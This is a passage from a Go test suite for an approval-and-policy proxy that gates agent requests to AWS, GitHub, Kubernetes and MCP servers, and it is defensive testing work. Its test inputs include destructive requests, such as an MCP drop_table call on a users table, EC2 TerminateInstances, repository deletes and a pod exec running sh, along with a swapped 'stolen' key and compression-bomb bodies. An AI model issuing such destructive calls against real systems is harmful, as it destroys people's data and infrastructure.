	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("read body: %v", err)
	}
	return resp, string(b)
}

// wantNoUpstream fails t if any request reached the upstream.
func (h *harness) wantNoUpstream(t testing.TB) {
	t.Helper()
	if n := h.up.Count("", ""); n != 0 {
		t.Errorf("upstream saw %d requests, want 0", n)
	}
}

// capturingDecider keeps the input document of every decision by request
// path.
type capturingDecider struct {
	next Decider
	mu   sync.Mutex
	docs map[string]map[string]any
}

func (c *capturingDecider) Decide(ctx context.Context, in *policy.Input) policy.Decision {
	c.mu.Lock()
	c.docs[in.Request.Path] = in.Map()
	c.mu.Unlock()
	return c.next.Decide(ctx, in)
}

func TestRecordedInputReplaysAsDecided(t *testing.T) {
	// A decision record leaves out what its other members already hold;
	// policy.RecordedInput must give back exactly the document the policy
	// saw, or replay would re-decide a different request.
	var cd *capturingDecider
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		cd = &capturingDecider{next: o.Decider, docs: map[string]map[string]any{}}
		o.Decider = cd
	}, session: func(s *session.Info) {
		s.Cwd = "/home/alice/shop"
		s.Labels = map[string]string{"team": "payments"}
	}})
	h.do("GET", "https://example.test/get?q=1&q=2&token=secret", "")
	h.do("POST", "https://example.test/json", `{"a":[1,2.5,"x"],"b":{"c":null}}`, "Content-Type", "application/json")
	h.do("POST", "https://example.test/form", "x=1&y=two", "Content-Type", "application/x-www-form-urlencoded")
	h.do("PUT", "https://example.test/big", strings.Repeat("z", auditBodyLimit+1), "Content-Type", "text/plain")

	canon := func(v any) any {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		var out any
		if err := json.Unmarshal(b, &out); err != nil {
			t.Fatal(err)
		}
		return out
	}
	seen := 0
	for _, rec := range h.decisions() {
		u, err := url.Parse(rec.Request.URL)
		if err != nil {
			t.Fatal(err)
		}
		cd.mu.Lock()
		want, ok := cd.docs[u.Path]
		cd.mu.Unlock()
		if !ok {
			t.Fatalf("no decision captured for %s", u.Path)
		}
		seen++
		got := canon(policy.RecordedInput(rec)).(map[string]any)
		wantDoc := canon(want).(map[string]any)
		if u.Path == "/big" {
			// Bodies over auditBodyLimit are left out of the record.
			req := wantDoc["request"].(map[string]any)
			delete(req, "body")
			req["body_omitted"] = true
		}
		if diff := cmp.Diff(wantDoc, got); diff != "" {
			t.Errorf("%s: recorded input differs from the decided one (-decided +recorded):\n%s", u.Path, diff)
		}
	}
	if seen != 4 {
		t.Errorf("decision records = %d, want 4", seen)
	}
}

// BenchmarkAllowPath sends kept-alive GETs through a real proxy (policy,
// audit with fsync, approvals) to the fake upstream, all in this process:
// allocations per op cover client, proxy and upstream, and move with the
// proxy's share. `make bench` measures the proxy on its own.
func BenchmarkAllowPath(b *testing.B) {
	h := newHarness(b, harnessOptions{})
	c := h.client()
	get := func() {
		resp, err := c.Get("https://example.test/bench")
		if err != nil {
			b.Fatal(err)
		}
		if _, err := io.Copy(io.Discard, resp.Body); err != nil {
			b.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			b.Fatalf("status %d", resp.StatusCode)
		}
	}
	get()
	b.ReportAllocs()
	for b.Loop() {
		get()
	}
}

// An approval is for a request made as someone: the same request signed
// with another AWS key, or sent with another bearer token, needs its own.
func TestOtherCredentialsNeedANewApproval(t *testing.T) {
	oauthNonce := 0
	sigv4 := func(key string) string {
		return "AWS4-HMAC-SHA256 Credential=" + key + "/20260301/us-east-1/ec2/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + strings.Repeat(key[len(key)-1:], 64)
	}
	const approveDeletes = `package countersign

approve contains "deleting needs a human" if input.request.method == "DELETE"
`
	tests := []struct {
		name, policy, method, url, body, approved, other string
		query                                            string // the credential's parameter, if it is in the query
		headers                                          func(cred string) []string
		ok                                               int
	}{
		{
			name: "AWS access key", policy: approveEC2, method: "POST", url: "https://ec2.us-east-1.amazonaws.com/",
			body: "Action=TerminateInstances&InstanceId.1=i-0abc", approved: "AKIASTAGING000000001", other: "AKIAPRODUCTION000002",
			headers: func(key string) []string {
				return []string{"Content-Type", "application/x-www-form-urlencoded", "Authorization", sigv4(key), "X-Amz-Date", "20260301T120000Z"}
			},
			ok: http.StatusOK,
		},
		{
			name: "bearer token", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "ghp_approvedtokenaaaaaaaaaaaaaaaaaaaaaa", other: "ghp_othertokenbbbbbbbbbbbbbbbbbbbbbbbbbb",
			headers: func(tok string) []string { return []string{"Authorization", "Bearer " + tok} },
			ok:      http.StatusNoContent,
		},
		{
			// git over HTTPS: one user name, the token is the password.
			name: "basic password", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "x-access-token:ghs_approvedaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", other: "x-access-token:ghs_otherbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
			headers: func(up string) []string {
				return []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte(up))}
			},
			ok: http.StatusNoContent,
		},
		{
			name: "another scheme", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "SSWS 00approvedkeyaaaaaaaaaaaaaaaaaaaaaaaaaa", other: "SSWS 00otherkeybbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
			headers: func(v string) []string { return []string{"Authorization", v} },
			ok:      http.StatusNoContent,
		},
		{
			// Signed anew on every attempt (nonce, timestamp, signature):
			// the retry is still the same request, bound to its token.
			name: "OAuth 1.0a", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "tok-approved", other: "tok-other",
			headers: func(tok string) []string {
				oauthNonce++
				return []string{"Authorization", fmt.Sprintf(`OAuth oauth_consumer_key="ck", oauth_token="%s", oauth_nonce="n%d", oauth_timestamp="%d", oauth_signature_method="HMAC-SHA1", oauth_signature="sig%d"`, tok, oauthNonce, 1700000000+oauthNonce, oauthNonce)}
			},
			ok: http.StatusNoContent,
		},
		{
			// Found by review: only Authorization and cookies counted.
			name: "API key header", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "agent-limited-key", other: "stolen-admin-key",
			headers: func(k string) []string { return []string{"X-Api-Key", k} },
			ok:      http.StatusNoContent,
		},
		{
			name: "token in the query", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "glpat-approved", other: "glpat-other", query: "private_token",
			headers: func(string) []string { return nil },
			ok:      http.StatusNoContent,
		},
		{
			name: "session cookie", policy: approveDeletes, method: "DELETE", url: "https://api.github.com/repos/acme/shop",
			approved: "session=alice; theme=dark", other: "theme=dark; session=mallory",
			headers: func(c string) []string { return []string{"Cookie", c} },
			ok:      http.StatusNoContent,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, harnessOptions{policy: tt.policy, hold: 50 * time.Millisecond, configure: func(o *Options) {
				o.Classifier = action.NewClassifier(aws.New(aws.Options{}))
			}})
			url := func(cred string) string {
				if tt.query == "" {
					return tt.url
				}
				return tt.url + "?" + tt.query + "=" + cred
			}
			resp, _ := h.do(tt.method, url(tt.approved), tt.body, tt.headers(tt.approved)...)
			id := resp.Header.Get("X-Countersign-Approval")
			if resp.StatusCode != http.StatusForbidden || id == "" {
				t.Fatalf("first request: %d, approval %q; want held, then pending", resp.StatusCode, id)
			}
			if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli", ScopeFor: time.Hour}); err != nil {
				t.Fatal(err)
			}
			resp, _ = h.do(tt.method, url(tt.other), tt.body, tt.headers(tt.other)...)
			if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Countersign-Approval") == id {
				t.Fatalf("the same request as someone else: %d under approval %q; want a new approval, not %s", resp.StatusCode, resp.Header.Get("X-Countersign-Approval"), id)
			}
			if n := h.up.Count("", ""); n != 0 {
				t.Fatalf("upstream saw %d requests before the approved retry", n)
			}
			resp, _ = h.do(tt.method, url(tt.approved), tt.body, tt.headers(tt.approved)...)
			if resp.StatusCode != tt.ok {
				t.Fatalf("the approved retry with the approved credentials: %d, want %d", resp.StatusCode, tt.ok)
			}
		})
	}
}

// connectFirstConn sends the CONNECT head in the same write as the first
// TLS bytes (the ClientHello), as clients that do not wait for the 200
// do, then reads the 200 before handing the rest to TLS.
type connectFirstConn struct {
	net.Conn
	head []byte
	br   *bufio.Reader
	read bool
}

func (c *connectFirstConn) Write(p []byte) (int, error) {
	if c.head != nil {
		b := append(c.head, p...)
		c.head = nil
		if _, err := c.Conn.Write(b); err != nil {
			return 0, err
		}
		return len(p), nil
	}
	return c.Conn.Write(p)
}

func (c *connectFirstConn) Read(p []byte) (int, error) {
	if !c.read {
		c.read = true
		resp, err := http.ReadResponse(c.br, &http.Request{Method: http.MethodConnect})
		if err != nil {
			return 0, err
		}
		if resp.StatusCode != http.StatusOK {
			return 0, fmt.Errorf("CONNECT: %s", resp.Status)
		}
	}
	return c.br.Read(p)
}

func TestConnectAndClientHelloInOneSegment(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	for i := range 10 {
		c, err := net.DialTimeout("tcp", h.addr, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		head := fmt.Sprintf("CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\nProxy-Authorization: Basic %s\r\n\r\n", basic(h.sess.ID, h.password))
		roots := x509.NewCertPool()
		roots.AddCert(h.ca.Certificate())
		tc := tls.Client(&connectFirstConn{Conn: c, head: []byte(head), br: bufio.NewReader(c)}, &tls.Config{ServerName: "example.test", RootCAs: roots})
		if err := tc.Handshake(); err != nil {
			t.Fatalf("attempt %d: TLS handshake after CONNECT and ClientHello in one segment: %v", i, err)
		}
		fmt.Fprint(tc, "GET / HTTP/1.1\r\nHost: example.test\r\n\r\n")
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil || resp.StatusCode != http.StatusOK {
			t.Fatalf("attempt %d: %v %v", i, resp, err)
		}
		resp.Body.Close()
		c.Close()
	}
}

// A server inflates a compressed body before it reads it (Express does by
// default), so the policy decides on the inflated body: an MCP tools/call
// sent with Content-Encoding: gzip is still an MCP tools/call.
func TestCompressedBodiesAreDecidedInflated(t *testing.T) {
	const denyDrop = `package countersign

deny contains {"id": "MCP-DROP", "msg": "no dropping tables"} if {
	input.action.provider == "mcp"
	input.action.tool == "drop_table"
}
`
	h := newHarness(t, harnessOptions{policy: denyDrop, configure: func(o *Options) {
		o.Classifier = action.NewClassifier(mcp.New(mcp.Options{}))
	}})
	call := `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"drop_table","arguments":{"table":"users"}}}`
	gz := func(enc string) string {
		var b bytes.Buffer
		var w io.WriteCloser
		switch enc {
		case "deflate":
			w = zlib.NewWriter(&b)
		case "br":
			w = brotli.NewWriter(&b)
		case "zstd":
			zw, err := zstd.NewWriter(&b)
			if err != nil {
				t.Fatal(err)
			}
			w = zw
		default:
			w = gzip.NewWriter(&b)
		}
		io.WriteString(w, call)
		w.Close()
		return b.String()
	}
	// br: Express 5 inflates it (found by review); zstd: what Codex sends.
	for _, enc := range []string{"gzip", "x-gzip", "deflate", "br", "zstd"} {
		resp, body := h.do("POST", "https://mcp.example.test/mcp", gz(enc), "Content-Type", "application/json", "Content-Encoding", enc, "Accept", "application/json, text/event-stream")
		// MCP denials are JSON-RPC errors for the call's id (SPEC 6).
		if !strings.Contains(body, "MCP-DROP") || !strings.Contains(body, `"id":7`) {
			t.Errorf("%s: %d %q, want the MCP rule's denial of call 7", enc, resp.StatusCode, body)
		}
	}
	// A body that does not inflate is refused, not waved through: a
	// server might read something from it.
	for _, enc := range []string{"gzip", "br", "zstd"} {
		resp, _ := h.do("POST", "https://mcp.example.test/mcp", "(not "+enc+")", "Content-Type", "application/json", "Content-Encoding", enc)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("malformed %s: %d, want 400", enc, resp.StatusCode)
		}
	}
	h.wantNoUpstream(t)
	// The decision record names what was sent (its hash) and what was
	// decided (the MCP action).
	for _, r := range h.decisions() {
		if r.Decision == "deny" && len(r.RuleIDs) == 1 && r.RuleIDs[0] == "MCP-DROP" {
			return
		}
	}
	t.Error("no decision record with MCP-DROP")
}

// An HTTP/1.0 client cannot read chunked framing: an answer of unknown
// length reaches it close-delimited, and the connection ends with it.
func TestHTTP10ClientGetsUnknownLengthCloseDelimited(t *testing.T) {
	h := streamHarness(t)
	for _, tt := range []struct {
		proto, conn string
		chunked     bool
	}{
		{"HTTP/1.0", "keep-alive", false},
		{"HTTP/1.0", "", false},
		{"HTTP/1.1", "", true},
	} {
		tc, br := h.tlsTunnel("stream.test:443", "stream.test")
		head := fmt.Sprintf("GET /stream %s\r\nHost: stream.test\r\n", tt.proto)
		if tt.conn != "" {
			head += "Connection: " + tt.conn + "\r\n"
		}
		_ = tc.SetDeadline(time.Now().Add(10 * time.Second))
		io.WriteString(tc, head+"\r\n")
		resp, err := http.ReadResponse(br, &http.Request{Method: "GET"})
		if err != nil {
			t.Fatalf("%s %s: %v", tt.proto, tt.conn, err)
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil || string(body) != "first part, second part" {
			t.Errorf("%s %s: body %q, %v", tt.proto, tt.conn, body, err)
		}
		if chunked := slices.Contains(resp.TransferEncoding, "chunked"); chunked != tt.chunked {
			t.Errorf("%s %s: chunked %v, want %v", tt.proto, tt.conn, chunked, tt.chunked)
		}
		tc.Close()
	}
}

// The bodies of held requests stay within MaxHeldBodies: past it a request
// that needs approval is refused (503), and the budget comes back when a
// held request is answered.
func TestHeldBodiesHaveABudget(t *testing.T) {
	const approvePosts = `package countersign

approve contains "posts need a human" if input.request.method == "POST"
`
	// 80 bytes held and 80 shown to the approver: one fits, two do not.
	h := newHarness(t, harnessOptions{policy: approvePosts, hold: time.Minute, configure: func(o *Options) { o.MaxHeldBodies = 200 }})
	body := strings.Repeat("a", 80)
	first := make(chan int, 1)
	go func() {
		resp, _ := h.do("POST", "https://example.test/things", body)
		first <- resp.StatusCode
	}()
	rec := h.waitPending()
	resp, text := h.do("POST", "https://example.test/other", body)
	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(text, "body data") {
		t.Fatalf("a second 80-byte body while the first is held: %d %q, want 503", resp.StatusCode, text)
	}
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if code := <-first; code != http.StatusOK {
		t.Fatalf("the approved request: %d", code)
	}
	// Answered: its bytes are free again, and the next one is held.
	third := make(chan int, 1)
	go func() {
		resp, _ := h.do("POST", "https://example.test/third", body)
		third <- resp.StatusCode
	}()
	rec = h.waitPending()
	if !strings.Contains(rec.Request.URL, "/third") {
		t.Errorf("the next held request is %s", rec.Request.URL)
	}
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: false, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if code := <-third; code != http.StatusForbidden {
		t.Errorf("the denied third request: %d, want 403", code)
	}
	if n := h.up.Count("POST", "/other"); n != 0 {
		t.Errorf("the refused request reached the upstream %d times", n)
	}
}

func gzipString(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

// Encodings that servers keep as they are (S3 stores Content-Encoding as
// object metadata; aws-chunked is SigV4's own framing) are decided and
// forwarded as sent, not refused.
func TestOtherContentEncodingsAreForwardedAsSent(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		o.Classifier = action.NewClassifier(aws.New(aws.Options{}))
	}})
	put := func(host string, codings ...string) int {
		// An operation AWS serves: the exemptions are for its own
		// endpoints, which name one.
		req, err := http.NewRequestWithContext(t.Context(), "PUT", "https://"+host+"/bucket/key?Action=DescribeInstances&Version=2016-11-15", strings.NewReader("opaque bytes"))
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range codings {
			req.Header.Add("Content-Encoding", c)
		}
		resp, err := h.client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	for _, enc := range []string{"aws-chunked", "compress"} {
		if code := put("example.test", enc); code != http.StatusOK {
			t.Errorf("%s: %d, want 200", enc, code)
		}
	}
	// aws-chunked beside gzip, in one line (botocore) or two
	// (aws-sdk-go-v2 adds its own): S3 keeps the gzip as metadata; a
	// server elsewhere that knows gzip but not aws-chunked would inflate
	// it, so only AWS's hosts get it (found by review), whatever
	// signature the request carries.
	for _, codings := range [][]string{{"aws-chunked, gzip"}, {"gzip", "aws-chunked"}} {
		before := h.up.Count("PUT", "/bucket/key")
		put("ec2.us-east-1.amazonaws.com", codings...) // the fake answers what EC2 would
		if h.up.Count("PUT", "/bucket/key") != before+1 {
			t.Errorf("%q to AWS was not forwarded", codings)
		}
		if code := put("example.test", codings...); code != http.StatusBadRequest || h.up.Count("PUT", "/bucket/key") != before+1 {
			t.Errorf("%q elsewhere: %d, want 400 and nothing forwarded", codings, code)
		}
	}
}

// kube-apiserver reads a request body as sent: a compressed one is refused,
// since the policy would judge what it inflates to (found by review: a
// deflate stream that was also YAML set replicas to zero).
func TestKubernetesBodiesAreNotInflated(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		o.Classifier = action.NewClassifier(kubernetes.New(kubernetes.Options{Hosts: []string{"example.test"}}))
	}})
	const path = "/apis/apps/v1/namespaces/prod/deployments/web"
	patch := `{"spec":{"replicas":3}}`
	for _, enc := range []string{"gzip", "deflate"} {
		body := gzipString(patch)
		if enc == "deflate" {
			var b bytes.Buffer
			w := zlib.NewWriter(&b)
			w.Write([]byte(patch))
			w.Close()
			body = b.String()
		}
		resp, _ := h.do("PATCH", "https://example.test"+path, body, "Content-Type", "application/merge-patch+json", "Content-Encoding", enc)
		if resp.StatusCode != http.StatusUnsupportedMediaType {
			t.Errorf("%s body: %d, want 415", enc, resp.StatusCode)
		}
	}
	h.wantNoUpstream(t)
	if resp, _ := h.do("PATCH", "https://example.test"+path, patch, "Content-Type", "application/merge-patch+json"); resp.StatusCode != http.StatusOK {
		t.Errorf("uncompressed: %d, want 200", resp.StatusCode)
	}
}

// What a human approves and what a retry must match is the body the server
// reads: inflated.
func TestInflatedBodiesAndApprovals(t *testing.T) {
	const approve = `package countersign

approve contains "needs a human" if input.request.method == "POST"
`
	t.Run("a body past the limit once inflated is not held", func(t *testing.T) {
		h := newHarness(t, harnessOptions{policy: approve, hold: time.Minute, configure: func(o *Options) { o.BodyLimit = 4096 }})
		body := gzipString(strings.Repeat("a", 4096) + " and what the approver would not see")
		resp, _ := h.do("POST", "https://example.test/things", body, "Content-Encoding", "gzip", "Content-Type", "text/plain")
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("%d, want 413", resp.StatusCode)
		}
		h.wantNoUpstream(t)
	})
	t.Run("the held-bodies budget counts the inflated copy", func(t *testing.T) {
		h := newHarness(t, harnessOptions{policy: approve, hold: time.Minute, configure: func(o *Options) { o.MaxHeldBodies = 128 << 10 }})
		body := gzipString(strings.Repeat("a", 60<<10)) // ~100 bytes sent, 60 KiB kept inflated and 60 KiB shown
		first := make(chan int, 1)
		go func() {
			resp, _ := h.do("POST", "https://example.test/one", body, "Content-Encoding", "gzip")
			first <- resp.StatusCode
		}()
		rec := h.waitPending()
		if resp, _ := h.do("POST", "https://example.test/two", body, "Content-Encoding", "gzip"); resp.StatusCode != http.StatusServiceUnavailable {
			t.Errorf("a second 60 KiB inflated (and shown) body while one is held: %d, want 503", resp.StatusCode)
		}
		if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approver: "cli:bob", Via: "cli"}); err != nil {
			t.Fatal(err)
		}
		<-first
	})
	t.Run("a gzipped MCP call's retry matches its approval", func(t *testing.T) {
		const approveTools = `package countersign

approve contains "tools need a human" if input.action.provider == "mcp"
`
		h := newHarness(t, harnessOptions{policy: approveTools, hold: 50 * time.Millisecond, configure: func(o *Options) {
			o.Classifier = action.NewClassifier(mcp.New(mcp.Options{}))
		}})
		call := func(id int) string {
			return gzipString(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"drop_table","arguments":{"table":"users"}}}`, id))
		}
		hdr := []string{"Content-Type", "application/json", "Content-Encoding", "gzip", "Accept", "application/json, text/event-stream"}
		resp, _ := h.do("POST", "https://example.test/mcp", call(1), hdr...)
		id := resp.Header.Get("X-Countersign-Approval")
		if id == "" {
			t.Fatalf("first call: %d, no approval", resp.StatusCode)
		}
		if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
			t.Fatal(err)
		}
		resp, body := h.do("POST", "https://example.test/mcp", call(2), hdr...)
		if got := resp.Header.Get("X-Countersign-Approval"); got != id || h.up.Count("POST", "/mcp") != 1 {
			t.Errorf("the retry with a new JSON-RPC id: %d under approval %q, want the approved %s forwarded; %q", resp.StatusCode, got, id, body)
		}
	})
	t.Run("a small body that inflates large stays out of the audit log", func(t *testing.T) {
		h := newHarness(t, harnessOptions{policy: "package countersign\n\ndeny contains \"no\" if input.request.method == \"POST\"\n"})
		body := gzipString(`{"x":"` + strings.Repeat("a", 512<<10) + `"}`)
		before, _ := os.Stat(h.logPath)
		h.do("POST", "https://example.test/things", body, "Content-Encoding", "gzip", "Content-Type", "application/json")
		after, err := os.Stat(h.logPath)
		if err != nil {
			t.Fatal(err)
		}
		if grew := after.Size() - before.Size(); grew > 64<<10 {
			t.Errorf("the audit log grew %d bytes for a %d-byte body", grew, len(body))
		}
	})
}

// A policy's hold cannot keep a request open past its approval's life:
// nobody can decide the approval after approval.expire.
func TestHoldIsCappedByTheApprovalsLife(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tests := []struct {
		hold, want time.Duration
		provider   string
	}{
		{87600 * time.Hour, h.broker.Expire(), "github"},
		{time.Minute, time.Minute, "github"},
		{87600 * time.Hour, 50 * time.Second, "aws"},
	}
	for _, tt := range tests {
		d := policy.Decision{Verdict: policy.VerdictApprove, Reasons: []policy.Reason{{ID: "X", Message: "m", Hold: tt.hold}}}
		if got := h.srv.holdFor(d, action.Action{Provider: tt.provider}, "api.github.com"); got != tt.want {
			t.Errorf("holdFor(hold %s, %s) = %s, want %s", tt.hold, tt.provider, got, tt.want)
		}
	}
	if h.broker.Expire() <= 0 || h.broker.Expire() >= 87600*time.Hour {
		t.Fatalf("broker expiry %s: the test proves nothing", h.broker.Expire())
	}
}

// A retried WebSocket upgrade (kubectl exec) sends a fresh random
// Sec-WebSocket-Key: it is still the same request for approvals.
func TestWebSocketKeyIsNotPartOfTheFingerprint(t *testing.T) {
	fp := func(key string) string {
		req := &http.Request{Method: "GET", URL: &url.URL{Path: "/api/v1/namespaces/prod/pods/web/exec", RawQuery: "command=sh"},
			Header: http.Header{"Sec-Websocket-Key": {key}, "Sec-Websocket-Version": {"13"}}}
		return fingerprint([]byte("test key"), &exchange{req: req, scheme: "https", host: "k8s.example.test", port: 443, upgrade: "websocket"}, action.Action{Provider: "kubernetes"}, nil)
	}
	if fp("dGhlIHNhbXBsZSBub25jZQ==") != fp("b3RoZXIgc2FtcGxlIG5vbmNl") {
		t.Error("two attempts of one upgrade differ only in Sec-WebSocket-Key but have different fingerprints")
	}
}

func TestErrorTextKeepsNoEchoedRequest(t *testing.T) {
	tests := []struct{ give, want string }{
		{`net/http: HTTP/1.x transport connection broken: malformed HTTP status code "/v1/items?access_token=SUPERSECRETVALUE42&x=1"`,
			`net/http: HTTP/1.x transport connection broken: malformed HTTP status code "…"`},
		{`Get "https://api.example/x?token=abc": dial tcp: connection refused`, `Get "…": dial tcp: connection refused`},
		{`bad "a\"b" and "unterminated`, `bad "…" and "…"`},
		{`plain failure`, `plain failure`},
	}
	for _, tt := range tests {
		if got := errorText(errors.New(tt.give)); got != tt.want {
			t.Errorf("errorText(%q) = %q, want %q", tt.give, got, tt.want)
		}
	}
	if got := errorText(errors.New(strings.Repeat("é", 400))); len(got) > 520 || !utf8.ValidString(got) {
		t.Errorf("errorText of a long message: %d bytes, valid UTF-8 %v", len(got), utf8.ValidString(got))
	}
}

// When two identical requests wait on one approval, the audit log says
// which one the approval admitted (before it is sent) and that the other
// was not sent.
func TestAuditSaysWhichHeldCopyWasSent(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	type result struct {
		resp *http.Response
		body string
	}
	send := func(done chan<- result) {
		resp, body := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
		done <- result{resp, body}
	}
	done := make(chan result, 2)
	go send(done)
	rec := h.waitPending()
	go send(done)
	joined := func() bool {
		for _, r := range h.records() {
			if r.Type == "approval" && r.ApprovalID == rec.ID && r.Detail == "joined by a retry" {
				return true
			}
		}
		return false
	}
	for deadline := time.Now().Add(10 * time.Second); !joined(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the second copy never joined the approval")
		}
	}
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	statuses := map[int]string{}
	for range 2 {
		r := <-done
		statuses[r.resp.StatusCode] = r.resp.Header.Get("X-Countersign-Request")
	}
	if _, ok := statuses[http.StatusOK]; !ok || statuses[http.StatusConflict] == "" {
		t.Fatalf("answers %v, want one 200 and one 409 naming its request", statuses)
	}
	var admitted, notSent string
	var admittedAt, sentAt uint64
	for _, r := range h.records() {
		switch {
		case r.Type == "approval" && r.Detail == "admits this held request":
			admitted, admittedAt = r.RequestID, r.Seq
		case r.Type == "approval" && strings.HasPrefix(r.Detail, "not sent:"):
			notSent = r.RequestID
		case r.Type == "response" && sentAt == 0:
			sentAt = r.Seq
		}
	}
	if admitted == "" || notSent != statuses[http.StatusConflict] || admitted == notSent {
		t.Errorf("admitted %q, not sent %q; want the two copies, the 409 (%s) not sent", admitted, notSent, statuses[http.StatusConflict])
	}
	if sentAt != 0 && admittedAt > sentAt {
		t.Errorf("the admission (seq %d) was recorded after the response (seq %d)", admittedAt, sentAt)
	}
}

// An S3 object is data S3 stores, not reads: `aws s3 cp notes.json` of a
// file saved as UTF-16 with a byte order mark (PowerShell's default) is
// sent as application/json and must not be refused as a body countersign
// cannot read (found by review). The same body to another API is.
func TestS3UploadOfAUTF16FileIsNotRefused(t *testing.T) {
	h := newHarness(t, harnessOptions{configure: func(o *Options) {
		o.Classifier = action.NewClassifier(aws.New(aws.Options{}))
		o.Resolve["acme-notes.s3.us-east-1.amazonaws.com:443"] = o.Resolve["example.test:443"]
	}})
	var b strings.Builder
	b.WriteString("\xFF\xFE")
	for _, r := range `{"note":"hello"}` {
		b.WriteByte(byte(r))
		b.WriteByte(0)
	}
	auth := "AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE000000001/20260301/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + strings.Repeat("a", 64)
	resp, _ := h.do("PUT", "https://acme-notes.s3.us-east-1.amazonaws.com/notes.json", b.String(),
		"Content-Type", "application/json", "Authorization", auth, "X-Amz-Date", "20260301T120000Z", "X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD")
	if n := h.up.Count("PUT", "/notes.json"); resp.StatusCode == http.StatusUnsupportedMediaType || n != 1 {
		t.Errorf("S3 upload of a UTF-16 JSON file: %d, %d uploads upstream; want it forwarded", resp.StatusCode, n)
	}
	resp, _ = h.do("PUT", "https://example.test/notes.json", b.String(), "Content-Type", "application/json")
	if resp.StatusCode != http.StatusUnsupportedMediaType {
		t.Errorf("the same body to another API: %d, want 415", resp.StatusCode)
	}
}

// Compressed bodies inflate a few at a time: a br or zstd decoder takes
// what the stream's window asks (about 20 MiB for a hostile 40-byte body),
// so concurrent ones wait for a slot (found by review) while requests
// without an encoding go on.
func TestInflatingIsBounded(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	for range cap(h.srv.inflating) {
		h.srv.inflating <- struct{}{}
	}
	done := make(chan int, 1)
	go func() {
		resp, _ := h.do("POST", "https://example.test/things", gzipString(`{"a":1}`), "Content-Encoding", "gzip", "Content-Type", "application/json")
		done <- resp.StatusCode
	}()
	if resp, _ := h.do("POST", "https://example.test/things", `{"a":1}`, "Content-Type", "application/json"); resp.StatusCode != http.StatusOK {
		t.Fatalf("a body without an encoding while every slot is taken: %d, want 200", resp.StatusCode)
	}
	select {
	case code := <-done:
		t.Fatalf("a compressed body was decided (%d) with every inflating slot taken", code)
	case <-time.After(200 * time.Millisecond):
	}
	<-h.srv.inflating
	if code := <-done; code != http.StatusOK {
		t.Fatalf("once a slot is free: %d, want 200", code)
	}
	if n := h.up.Count("POST", "/things"); n != 2 {
		t.Errorf("upstream saw %d POSTs, want 2", n)
	}
}

// streamHarness is a harness whose stream.test answers "first part, second
// part" with no length (net/http streams it).
func streamHarness(t *testing.T) *harness {
	ca, err := testinfra.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	up, err := testinfra.StartServer(ca, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "first part, ")
		w.(http.Flusher).Flush() // no length: net/http streams it
		io.WriteString(w, "second part")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { up.Close() })
	return newHarness(t, harnessOptions{configure: func(o *Options) {
		o.RootCAs = ca.Pool()
		o.Resolve["stream.test:443"] = up.Addr
